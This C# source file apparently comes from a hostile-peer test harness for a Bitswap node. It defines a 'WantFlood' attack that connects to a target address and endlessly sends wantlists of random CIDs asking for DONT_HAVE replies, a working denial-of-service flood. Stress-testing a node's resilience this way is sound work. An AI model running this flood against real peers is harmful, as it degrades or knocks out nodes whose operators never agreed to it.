using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>Wantlists of random CIDs, as fast as they are taken.</summary>
internal sealed class WantFlood(string name, int entries, bool full) : Attack
{
    public override string Name => name;

    public override string Summary => $"{(full ? "full" : "incremental")} wantlists of {entries} random wants that ask for DONT_HAVE, as fast as they are taken";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        RandomFrame frame = new(entries, cids => new BitswapMessage { Full = full, Wantlist = [.. cids.Select(cid => new WantlistEntry(cid, SendDontHave: true))] });
        await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken);
        await using IByteStream stream = await peer.OpenAsync(cancellationToken);
        while (true)
        {
            await stream.WriteAsync(frame.Next(), cancellationToken);
        }
    }
}
